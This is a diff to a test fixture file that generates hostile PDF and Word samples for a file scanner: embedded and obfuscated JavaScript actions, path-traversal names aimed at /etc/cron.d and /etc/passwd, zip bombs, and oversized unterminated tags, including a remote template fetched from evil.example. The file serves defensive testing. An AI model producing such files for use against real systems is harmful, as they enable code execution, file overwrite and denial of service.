@@ -137,6 +137,7 @@ export const falsePdfs = (): HostileFile[] =>
   (
     [
       ['a script', pdf(action('JavaScript'))],
+      ['streams that begin and never end', pdf('stream\n'.repeat(60_000))],
       ['a script with a letter spelt otherwise', pdf(action('J#61vaScript'))],
       ['a script spelt all otherwise', pdf(action(hex('JavaScript')))],
       ['a script by its key alone', pdf('3 0 obj\n<</A<</JS (app.alert(1))>>>>\nendobj\n')],
@@ -237,6 +238,25 @@ export const falseOffice = (): HostileFile[] =>
       ['a name that leads out', word({ name: '../../../etc/cron.d/evil', data: 'x' })],
       ['a name that leads out the other way', word({ name: 'word\\..\\..\\evil.txt', data: 'x' })],
       ['a name from the root', word({ name: '/etc/passwd', data: 'x' })],
+      [
+        'relations that begin and never end',
+        word({
+          name: 'word/_rels/a.xml.rels',
+          data: Buffer.from('<Relationship '.repeat(700_000) + ' '.repeat(250_000)),
+        }),
+      ],
+      [
+        'a template from elsewhere whose tag is longer than a piece',
+        word({
+          name: 'word/_rels/settings.xml.rels',
+          data: Buffer.from(
+            relation('attachedTemplate', 'http://evil.example/t.dotm').replace(
+              'Target=',
+              `${' '.repeat(150_000)}Target=`,
+            ),
+          ),
+        }),
+      ],
       ['a bomb by ratio', word({ name: 'word/big.xml', data: zeros })],
       ['a bomb that says it is small', word({ name: 'word/big.xml', data: zeros, claims: 10 })],
       ['a bomb by count', word(...Array.from({ length: 4000 }, (_, i) => ({ name: `word/${i}.xml`, data: '<x/>' })))],
